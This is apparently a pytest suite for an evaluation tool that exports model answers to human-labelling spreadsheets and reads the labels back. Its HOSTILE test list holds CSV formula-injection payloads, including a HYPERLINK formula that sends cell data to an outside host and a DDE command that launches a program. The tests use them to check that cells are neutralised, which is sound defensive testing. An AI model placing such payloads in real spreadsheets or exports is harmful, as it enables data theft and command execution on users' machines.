"""Label sheets: blind, safe in a spreadsheet, drawn by a seed, read back exactly or refused row by row."""

from __future__ import annotations

import csv
import io
import json
import random
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from distill_tests.calibrations import read
from distill_tests.cli import main
from distill_tests.errors import DataError, SpecError
from distill_tests.labelling import Answer, Audited, Drawing, drawn, found, read_sheet, sheet_text
from distill_tests.labelling.drawing import drawing_in, line_of
from distill_tests.labelling.sheets import guarded, unguarded
from distill_tests.record import Record, RunMeta
from distill_tests.rundir import RunWriter

HOSTILE = [
    '=HYPERLINK("https://example.org?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    " \u200b=1+1",
    "＝1+1",
    "'=1+1",
    'she said "no", twice; and left',
    "line one\nline two\r\nline three\rfour",
    "a NUL \x00, an escape \x1b[2J, a bell \x07",
    "\u202egnitirw rorrim\u202c and \u2066isolated\u2069",
    "lone \ud83d surrogate",
    "\ufeffmark",
    "我是通义千问。🙂",
    '"',
    "x" * 40_000,
]
JUDGE = {"name": "mentions", "version": "a" * 64, "options": {}, "models": []}


def answer(number: int, text: str, wrong: bool) -> Answer:
    mark = float(wrong)
    return Answer(
        id=f"q{number}-en.f{number % 8}",
        asked=f"Who are you? {number}",
        text=text,
        clusters={"framing": f"f{number % 8}", "question": f"q{number}"},
        marks={"loose": mark, "strict": mark},
    )


def audited(texts: list[str] | None = None, *, judge: Mapping[str, Any] | None = JUDGE) -> Audited:
    listed = [f"I am model {number}." for number in range(60)] if texts is None else texts
    return Audited(
        run="1a2b3c4d",
        date="2026-01-31T12:00:00+00:00",
        spec="specs/core.yaml",
        title="Toy",
        target="toy",
        answers=tuple(answer(number, text, number % 5 == 0) for number, text in enumerate(listed)),
        unscored=0,
        judge=judge,
    )


def filled(sheet: str, label: Callable[[str], Mapping[str, str]]) -> str:
    """The CSV sheet with the columns that ``label`` gives for an id."""
    rows = list(csv.DictReader(io.StringIO(sheet.removeprefix("\ufeff"), newline="")))
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    for row in rows:
        writer.writerow({**row, **label(unguarded(row["id"]))})
    return out.getvalue()


def yes(_id: str) -> Mapping[str, str]:
    return {"loose": "1", "strict": "no"}


def written(path: Path, text: str) -> Path:
    path.write_bytes(text.encode("utf-8"))
    return path


def problems(path: Path, about: Audited) -> list[str]:
    with pytest.raises(SpecError) as caught:
        read_sheet(path, about)
    return [str(problem).removeprefix(f"{path}:") for problem in caught.value.problems]


# --- what is drawn --------------------------------------------------------------------------------


def test_the_same_seed_draws_the_same_answers_whatever_their_order() -> None:
    about = audited()
    drawing = Drawing(share=0.3, seed=7)
    chosen = {one.id for one in drawn(about, drawing)}
    turned = Audited(
        **{
            **{name: getattr(about, name) for name in about.__slots__},
            "answers": tuple(reversed(about.answers)),
        }
    )
    assert {one.id for one in drawn(turned, drawing)} == chosen
    assert {one.id for one in drawn(about, Drawing(share=0.3, seed=8))} != chosen


def test_a_size_draws_exactly_so_many_and_no_more_than_there_are() -> None:
    about = audited()
    assert len(drawn(about, Drawing(size=25))) == 25
    assert Drawing(size=25).chance(60) == pytest.approx(25 / 60)
    assert len(drawn(about, Drawing(size=1000))) == 60
    assert Drawing(size=1000).chance(60) == 1.0


@pytest.mark.parametrize(
    "given", [{}, {"share": 0.0}, {"share": 1.5}, {"size": 1}, {"share": 0.5, "size": 9}]
)
def test_a_drawing_that_carries_no_estimate_is_refused(given: dict[str, Any]) -> None:
    with pytest.raises(ValueError):
        Drawing(**given)


@given(
    st.one_of(
        st.floats(0.001, 1).map(lambda share: Drawing(share=share)),
        st.integers(2, 10**6).map(lambda size: Drawing(size=size, seed=-3)),
    )
)
def test_a_sheet_tells_how_it_was_drawn(drawing: Drawing) -> None:
    assert drawing_in(line_of(audited(), drawing)) == ("1a2b3c4d", "toy", drawing)


# --- what a sheet shows ---------------------------------------------------------------------------


def test_a_sheet_shows_no_verdict_of_the_judge() -> None:
    about = audited()
    turned = Audited(
        **{
            **{name: getattr(about, name) for name in about.__slots__},
            "answers": tuple(answer(n, one.text, n % 5 != 0) for n, one in enumerate(about.answers)),
        }
    )
    for as_json in (False, True):
        sheet = sheet_text(about, Drawing(share=1.0), as_json=as_json)
        assert sheet == sheet_text(turned, Drawing(share=1.0), as_json=as_json)


def test_the_columns_are_those_that_people_need_and_fill_in() -> None:
    header = sheet_text(audited(), Drawing(share=0.5)).splitlines()[0]
    assert header == (
        '\ufeff"id","question","framing","answer","loose","strict","claimed","note","answer_sha256","sheet"'
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_acts_in_a_spreadsheet(text: str) -> None:
    cell = guarded(text)
    assert cell.lstrip()[:1] not in tuple("=+-@＝＋－＠\t\r")
    assert not set(cell) & {chr(code) for code in range(32) if chr(code) != "\n"}
    assert not any(char in cell for char in "\u202e\u2066\u200b\ufeff\ud83d")
    assert len(cell) < 32_767


def test_hostile_answers_come_back_by_id_and_hash_from_csv_and_jsonl(tmp_path: Path) -> None:
    about = audited(HOSTILE)
    sheet = filled(sheet_text(about, Drawing(share=1.0)), yes)
    labels = read_sheet(written(tmp_path / "sheet.csv", sheet), about)
    assert set(labels.by_mark["loose"]) == {one.id for one in about.answers}
    assert set(labels.by_mark["strict"].values()) == {False}
    rows = [json.loads(line) for line in sheet_text(about, Drawing(share=1.0), as_json=True).splitlines()]
    assert [row["answer"] for row in rows] == HOSTILE
    text = "".join(json.dumps({**row, "loose": 1, "strict": False}) + "\n" for row in rows)
    assert read_sheet(written(tmp_path / "sheet.jsonl", text), about).by_mark == labels.by_mark


@settings(deadline=None, max_examples=60)
@given(st.lists(st.text(max_size=40), min_size=2, max_size=8))
def test_any_answers_come_back(tmp_path_factory: pytest.TempPathFactory, texts: list[str]) -> None:
    about = audited(texts)
    path = tmp_path_factory.mktemp("sheet") / "s.csv"
    sheet = filled(sheet_text(about, Drawing(share=1.0)), yes)
    assert len(read_sheet(written(path, sheet), about).by_mark["loose"]) == len(texts)


@pytest.mark.parametrize(
    ("written_as", "meant"), [("TRUE", True), ("是", True), ("N", False), (" 0 ", False)]
)
def test_labels_may_be_written_as_spreadsheets_and_people_do(
    tmp_path: Path, written_as: str, meant: bool
) -> None:
    about = audited()
    sheet = filled(sheet_text(about, Drawing(share=1.0)), lambda _id: {"loose": written_as})
    told = read_sheet(written(tmp_path / "s.csv", sheet), about)
    assert set(told.by_mark["loose"].values()) == {meant}
    assert "strict" not in told.by_mark


def test_a_sheet_saved_with_semicolons_is_read(tmp_path: Path) -> None:
    about = audited(HOSTILE)
    rows = list(csv.reader(io.StringIO(filled(sheet_text(about, Drawing(share=1.0)), yes), newline="")))
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=";").writerows(rows)
    assert len(read_sheet(written(tmp_path / "s.csv", out.getvalue()), about).by_mark["loose"]) == len(
        HOSTILE
    )


# --- what is wrong with a sheet -------------------------------------------------------------------


def test_bad_rows_are_named_by_line_and_column_all_at_once(tmp_path: Path) -> None:
    about = audited(["one", "two\nlines", "three", "four", "five"])
    ids = [one.id for one in about.answers]
    wrong: dict[str, Mapping[str, str]] = {
        ids[0]: {"loose": "maybe"},
        ids[1]: {"strict": ""},
        ids[2]: {"answer_sha256": "0" * 64},
        ids[3]: {"id": "nobody"},
    }
    sheet = filled(sheet_text(about, Drawing(share=1.0)), lambda name: {**yes(name), **wrong.get(name, {})})
    assert problems(written(tmp_path / "s.csv", sheet), about) == [
        f"1:1: 1 of 5 answers that were drawn have no row: {ids[3]}; "
        "every one of them has to be labelled, or the estimate is wrong",
        "2:5: 'maybe' is neither yes nor no; 1 or 0, yes or no, true or false",
        "3:6: 'strict' is not labelled; 1 or 0, yes or no, true or false",
        f"5:9: the run holds another answer to {ids[2]!r} than the one that was labelled",
        "6:1: 'nobody' was not drawn for labelling",
    ]


def test_a_row_given_twice_and_one_of_another_run_are_refused(tmp_path: Path) -> None:
    about = audited(["one", "two"])
    sheet = filled(sheet_text(about, Drawing(share=1.0)), yes)
    twice = sheet + sheet.split("\r\n")[1] + "\r\n"
    assert problems(written(tmp_path / "s.csv", twice), about) == ["4:1: 'q0-en.f0' stands on line 2 already"]
    other = sheet.replace("run 1a2b3c4d", "run ffffffff", 1)
    assert problems(written(tmp_path / "s.csv", other), about) == [
        "2:10: the sheet is of run ffffffff on toy; these answers are of run 1a2b3c4d on toy"
    ]
    changed = sheet.replace("share 1.0", "share 0,3", 1)
    assert problems(written(tmp_path / "s.csv", changed), about)[0].startswith("2:10: this cell was changed")


@pytest.mark.parametrize(
    ("raw", "words"),
    [
        (b"", "lacks id, answer_sha256, sheet and has nothing"),
        (b"a,b\r\n1,2\r\n", "lacks id, answer_sha256, sheet and has a, b"),
        (b"id,answer_sha256,sheet,loose\r\n", "holds no row"),
        ("id,é\r\n".encode("latin-1"), "byte 0xe9 is not UTF-8; save it as CSV UTF-8"),
        (b'id,answer_sha256,sheet\r\n"open,1,2\r\n', "not CSV"),
        (b"id,id,answer_sha256,sheet\r\n1,2,3,4\r\n", "a column stands twice"),
    ],
)
def test_a_file_that_is_no_sheet_is_refused_in_words(tmp_path: Path, raw: bytes, words: str) -> None:
    path = tmp_path / "s.csv"
    path.write_bytes(raw)
    with pytest.raises(DataError, match=words):
        read_sheet(path, audited())


def test_a_sheet_that_nobody_filled_in_says_so(tmp_path: Path) -> None:
    about = audited()
    sheet = sheet_text(about, Drawing(share=0.5))
    with pytest.raises(DataError, match="no row is labelled: fill in loose or strict"):
        read_sheet(written(tmp_path / "s.csv", sheet), about)


# --- what labels say ------------------------------------------------------------------------------


def test_labels_mend_what_the_judge_gets_wrong(tmp_path: Path) -> None:
    """The judge raises a fifth and misses as much again; over seeds the labels' rate is the true one."""
    truth = {f"q{n}-en.f{n % 8}": n % 5 == 0 or n % 5 == 1 for n in range(400)}
    about = audited([f"answer {n}" for n in range(400)])
    values = []
    for seed in range(12):
        sheet = filled(
            sheet_text(about, Drawing(share=0.3, seed=seed)), lambda name: {"loose": str(int(truth[name]))}
        )
        [told] = found(about, read_sheet(written(tmp_path / f"{seed}.csv", sheet), about))
        estimate = told.estimate
        assert estimate.value is not None
        assert estimate.low is not None
        assert estimate.high is not None
        assert estimate.low <= 0.4 + 0.05
        values.append(estimate.value)
        assert told.judged == 80
        assert told.against.recall.value == pytest.approx(0.5, abs=0.2)
        assert told.against.false_positive_rate.value == 0.0
    assert sum(values) / len(values) == pytest.approx(0.4, abs=0.03)


# --- the command ----------------------------------------------------------------------------------


def case_row(number: int, text: str, *, wrong: bool, spec: str = "specs/core.yaml") -> dict[str, Any]:
    messages = [{"role": "user", "text": f"Who are you? {number}", "images": []}]
    score = {"value": float(wrong), "marks": {"loose": float(wrong), "strict": float(wrong)}, "details": {}}
    exchange = {"model": "toy", "messages": messages}
    return {
        "schema": 1, "type": "case", "node": f"{spec}::toy::q{number}", "spec": spec, "title": "Toy",
        "target": "toy", "id": f"q{number}", "verdict": "passed", "clusters": {"framing": f"f{number % 8}"},
        "trials": [{"answer": text, "score": score, "exchanges": [exchange]}],
    }  # fmt: skip


def gate_row(judge: Mapping[str, Any] | None, spec: str = "specs/core.yaml") -> dict[str, Any]:
    return {
        "schema": 1, "type": "gate", "node": f"{spec}::toy::gate-strict_rate", "spec": spec, "target": "toy",
        "id": "strict_rate", "verdict": "passed", "gate": {}, "estimate": {}, "judge": judge,
    }  # fmt: skip


def run_of(path: Path, rows: Sequence[Record]) -> Path:
    with RunWriter(path, RunMeta(id="1a2b3c4d", started_at="2026-01-31T12:00:00+00:00")) as writer:
        for row in rows:
            writer.append(row)
    return path


def hostile_run(path: Path, *, judge: Mapping[str, Any] | None = JUDGE) -> Path:
    texts = [*HOSTILE, *(f"I am model {n}." for n in range(63))]
    rows = [case_row(n, text, wrong=n % 4 == 0) for n, text in enumerate(texts)]
    return run_of(path, [*rows, gate_row(judge)])


def label_all(path: Path, rng: random.Random) -> None:
    """People agree with the judge but in one row of ten."""

    def said(name: str) -> Mapping[str, str]:
        wrong = int(name.removeprefix("q")) % 4 == 0
        return {"strict": "yes" if wrong != (rng.random() < 0.1) else "no", "note": "=1+1"}

    path.write_bytes(("\ufeff" + filled(path.read_bytes().decode("utf-8-sig"), said)).encode("utf-8"))


def test_a_sheet_goes_out_and_its_labels_come_back(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run, sheet, made = hostile_run(tmp_path / "run"), tmp_path / "sheet.csv", tmp_path / "cal.json"
    assert main(["label", str(run), "--size", "60", "--output", str(sheet)]) == 0
    assert "60 of 80 answers by toy" in capsys.readouterr().err
    label_all(sheet, random.Random(1))
    arguments = ["label", str(run / "run.jsonl"), "--read", str(sheet)]
    people = ["--annotators", "two members of the audit team"]
    assert main([*arguments, *people, "--calibration", str(made)]) == 0
    out = " ".join(capsys.readouterr().out.split())
    assert "the rate if all 80 answers were labelled" in out
    assert "60 of 80 labelled at random (chance 0.75)" in out
    assert "kappa 0." in out
    assert "judge: mentions aaaaaaaaaaaaaaaa; labels by: two members of the audit team" in out
    stored = read(made)
    assert (stored.judge, stored.version, stored.annotators) == (
        "mentions",
        "a" * 64,
        "two members of the audit team",
    )
    assert stored.labels["strict"].whole.n == 60
    assert list(stored.labels) == ["strict"]


@pytest.mark.parametrize("columns", [60, 80])
def test_what_labels_say_is_no_wider_than_the_terminal(
    columns: int, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    run, sheet = hostile_run(tmp_path / "run"), tmp_path / "sheet.csv"
    main(["label", str(run), "--size", "60", "--output", str(sheet)])
    label_all(sheet, random.Random(1))
    capsys.readouterr()
    monkeypatch.setenv("COLUMNS", str(columns))
    assert main(["label", str(run), "--read", str(sheet)]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert max(map(len, lines)) <= columns


def test_a_spreadsheet_program_s_own_format_is_refused_and_nothing_is_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run, sheet = hostile_run(tmp_path / "run"), tmp_path / "sheet.xlsx"
    assert main(["label", str(run), "--output", str(sheet)]) == 2
    assert "a sheet is .csv or .jsonl" in capsys.readouterr().err
    assert not sheet.exists()


def test_a_sheet_is_never_written_over(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run, sheet = hostile_run(tmp_path / "run"), written(tmp_path / "sheet.csv", "labels of an hour")
    assert main(["label", str(run), "--output", str(sheet)]) == 2
    assert "may hold labels" in capsys.readouterr().err
    assert sheet.read_text() == "labels of an hour"


def test_bad_rows_are_printed_and_the_status_is_2(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run, sheet = hostile_run(tmp_path / "run"), tmp_path / "sheet.csv"
    main(["label", str(run), "--share", "1", "--output", str(sheet)])
    text = filled(sheet.read_bytes().decode("utf-8-sig"), lambda _id: {"strict": "\x1b[2J"})
    written(sheet, text)
    capsys.readouterr()
    assert main(["label", str(run), "--read", str(sheet)]) == 2
    told = capsys.readouterr().err
    assert told.count("is neither yes nor no") == 80
    assert "\x1b" not in told


def test_a_run_of_two_specs_asks_which(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rows = [case_row(1, "a", wrong=True), case_row(2, "b", wrong=False, spec="specs/b.yaml")]
    run = run_of(tmp_path / "run", rows)
    assert main(["label", str(run), "--output", str(tmp_path / "s.csv")]) == 2
    told = capsys.readouterr().err
    assert "--spec specs/b.yaml --target toy; --spec specs/core.yaml --target toy" in told
    command = [
        "label",
        str(run),
        "--spec",
        "specs/b.yaml",
        "--output",
        str(tmp_path / "s.csv"),
        "--share",
        "1",
    ]
    assert main(command) == 0


def test_a_run_that_does_not_know_its_judges_version_gives_no_calibration(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run, sheet = hostile_run(tmp_path / "run", judge=None), tmp_path / "s.csv"
    main(["label", str(run), "--share", "1", "--output", str(sheet)])
    label_all(sheet, random.Random(2))
    made = tmp_path / "cal.json"
    arguments = ["label", str(run), "--read", str(sheet), "--annotators", "x", "--calibration", str(made)]
    assert main(arguments) == 2
    assert "does not say which version its judge had" in capsys.readouterr().err
    assert not made.exists()


@pytest.mark.parametrize(
    "options",
    [
        [],
        ["--output", "a.csv", "--read", "b.csv"],
        ["--output", "a.csv", "--share", "0.3", "--size", "9"],
        ["--output", "a.csv", "--share", "2"],
        ["--output", "a.csv", "--annotators", "x"],
        ["--output", "a.xlsx"],
        ["--output", "a"],
        ["--read", "b.csv", "--size", "9"],
        ["--read", "b.csv", "--calibration", "c.json"],
    ],
)
def test_misuse_is_refused_in_words(
    tmp_path: Path, options: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    run = hostile_run(tmp_path / "run")
    assert main(["label", str(run), *options]) == 2
    assert capsys.readouterr().err.startswith("distill-tests: error: ")


def test_reading_a_sheet_leaves_the_process_its_csv_limit(tmp_path: Path) -> None:
    before = csv.field_size_limit()
    sheet = tmp_path / "s.csv"
    sheet.write_text("id,loose\n", encoding="utf-8")
    with pytest.raises((DataError, SpecError)):
        read_sheet(sheet, audited())
    assert csv.field_size_limit() == before
